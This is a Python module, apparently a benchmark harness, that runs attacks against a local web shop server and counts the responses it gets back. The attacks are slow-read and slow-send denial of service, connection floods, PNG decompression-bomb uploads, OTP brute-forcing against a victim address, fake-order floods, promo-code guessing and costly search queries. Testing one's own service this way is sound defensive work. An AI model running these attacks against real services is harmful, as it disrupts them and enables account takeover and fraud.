"""Attackers of one kind, from a separate address. They run until they are stopped.

Called as `python -m bench.attackers KIND PORT FACTS`, with facts as JSON: `token` of a customer, `sku`.
At SIGTERM it prints the counts of its responses, such as `{"200": 12, "429": 480, "refused": 3}`.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import random
import signal
import struct
import sys
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

ADDRESS = "127.0.0.66"
CONNECTIONS = 60
OUTCOMES: Counter[str] = Counter()
FACTS: dict[str, Any] = {}


async def _connect(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection("127.0.0.1", port, local_addr=(ADDRESS, 0))


def _request(
    method: str, path: str, body: bytes = b"", kind: str = "application/json", **headers: str
) -> bytes:
    fields = {
        "Host": "127.0.0.1",
        "Content-Type": kind,
        "Content-Length": str(len(body)),
        **headers,
    }
    lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in fields.items())
    return f"{method} {path} HTTP/1.1\r\n{lines}\r\n".encode() + body


async def _send_repeatedly(port: int, requests: Callable[[], bytes]) -> None:
    """Send requests on one connection without a pause, and reconnect if it is closed."""
    while True:
        try:
            reader, writer = await _connect(port)
            while True:
                writer.write(requests())
                head = await reader.readuntil(b"\r\n\r\n")
                OUTCOMES[head[9:12].decode()] += 1
                start = head.lower().find(b"content-length:")
                length = int(head[start + 15 : head.find(b"\r", start)]) if start >= 0 else 0
                await reader.readexactly(length)
        except (OSError, asyncio.IncompleteReadError):
            OUTCOMES["cut off"] += 1
            await asyncio.sleep(0.05)


async def _many(port: int, one: Callable[[int], Awaitable[None]], count: int = CONNECTIONS) -> None:
    await asyncio.gather(*(one(port) for _ in range(count)))


async def slow_readers(port: int) -> None:
    """Request the longest responses and do not read them."""

    async def one(port: int) -> None:
        while True:
            try:
                reader, writer = await _connect(port)
                transport = writer.transport
                assert isinstance(transport, asyncio.ReadTransport)
                transport.pause_reading()
                for path in ("/feeds/google.xml", "/sitemap.xml", "/api/products?pageSize=96"):
                    writer.write(_request("GET", path))
                OUTCOMES["requested"] += 1
                await writer.wait_closed()
                await reader.read(1)
            except OSError:
                pass
            await asyncio.sleep(0.2)

    await _many(port, one)


async def slow_senders(port: int) -> None:
    """Send a header or a body byte by byte."""
    order = _request("POST", "/api/orders", b'{"skuIds": [1], "paymentMethod": "cod"}')

    async def one(port: int) -> None:
        while True:
            try:
                _, writer = await _connect(port)
                OUTCOMES["began"] += 1
                for byte in order:
                    writer.write(bytes((byte,)))
                    await writer.drain()
                    await asyncio.sleep(0.5)
            except OSError:
                OUTCOMES["cut off"] += 1
                await asyncio.sleep(0.1)

    await _many(port, one, 200)


async def connection_flood(port: int) -> None:
    """Open connections and keep them."""
    open_writers: list[asyncio.StreamWriter] = []
    while True:
        try:
            _, writer = await asyncio.wait_for(_connect(port), 1)
            open_writers.append(writer)
            OUTCOMES["opened"] += 1
        except (OSError, TimeoutError):
            OUTCOMES["refused"] += 1
            await asyncio.sleep(0.05)
        open_writers = [one for one in open_writers if not one.is_closing()][-2000:]
        await asyncio.sleep(0.001)


def bomb(side: int) -> bytes:
    """Return a PNG of one colour: a few kilobytes that decompress to side × side pixels."""

    def chunk(name: bytes, content: bytes) -> bytes:
        check = zlib.crc32(name + content)
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(1 + 3 * side) * side, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


async def upload_flood(port: int) -> None:
    """Upload many decompression bombs at once as a customer."""
    mark = "frontier"
    body = (
        f'--{mark}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n'
        "Content-Type: image/png\r\n\r\n"
    ).encode() + bomb(4000)
    body += f"\r\n--{mark}--\r\n".encode()
    request = _request(
        "POST",
        "/api/uploads",
        body,
        f"multipart/form-data; boundary={mark}",
        Authorization=f"Bearer {FACTS['token']}",
    )
    await _many(port, lambda port: _send_repeatedly(port, lambda: request), 16)


async def code_guessing(port: int) -> None:
    """Request codes for one address and guess them."""
    email = "victim@example.com"
    ask = _request("POST", "/auth/otp/request", json.dumps({"email": email}).encode())

    def requests() -> bytes:
        if random.random() < 0.1:
            return ask
        guess = {"email": email, "otp": f"{random.randrange(10**6):06d}"}
        return _request("POST", "/auth/otp/validate", json.dumps(guess).encode())

    await _many(port, lambda port: _send_repeatedly(port, requests), 16)


async def order_flood(port: int) -> None:
    """Order everything as guests who pay on delivery."""
    numbers = itertools.count()

    def requests() -> bytes:
        order = FACTS["order"] | {"skuIds": [FACTS["sku"]] * 3}
        order["contact"] = order["contact"] | {"email": f"nobody{next(numbers)}@example.com"}
        return _request("POST", "/api/orders", json.dumps(order).encode())

    await _many(port, lambda port: _send_repeatedly(port, requests), 16)


async def promo_guessing(port: int) -> None:
    """Try promo codes through quotes."""
    numbers = itertools.count()

    def requests() -> bytes:
        quote = {"skuIds": [FACTS["sku"]], "promoCode": f"GUESS{next(numbers)}"}
        return _request("POST", "/api/checkout/quote", json.dumps(quote).encode())

    await _many(port, lambda port: _send_repeatedly(port, requests), 16)


async def costly_searches(port: int) -> None:
    """Send distinct searches with the maximum of criteria and high page numbers."""
    numbers = itertools.count()

    def requests() -> bytes:
        number = next(numbers)
        search = {
            "match": "any",
            "criteria": [
                {
                    "key": "title",
                    "operation": "cn",
                    "value": [f"{criterion}-{value}-{number}" for value in range(5)],
                }
                for criterion in range(20)
            ],
            "page": random.randrange(1, 1_000_000),
            "pageSize": 96,
        }
        return _request("POST", "/api/products/search", json.dumps(search).encode())

    await _many(port, lambda port: _send_repeatedly(port, requests), 16)


KINDS: dict[str, Callable[[int], Awaitable[None]]] = {
    one.__name__: one
    for one in (
        slow_readers,
        slow_senders,
        connection_flood,
        upload_flood,
        code_guessing,
        order_flood,
        promo_guessing,
        costly_searches,
    )
}


async def _main(kind: str, port: int) -> None:
    attack = asyncio.ensure_future(KINDS[kind](port))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, attack.cancel)
    try:
        await attack
    except asyncio.CancelledError:
        print(json.dumps(OUTCOMES))


if __name__ == "__main__":
    FACTS.update(json.loads(sys.argv[3]))
    asyncio.run(_main(sys.argv[1], int(sys.argv[2])))
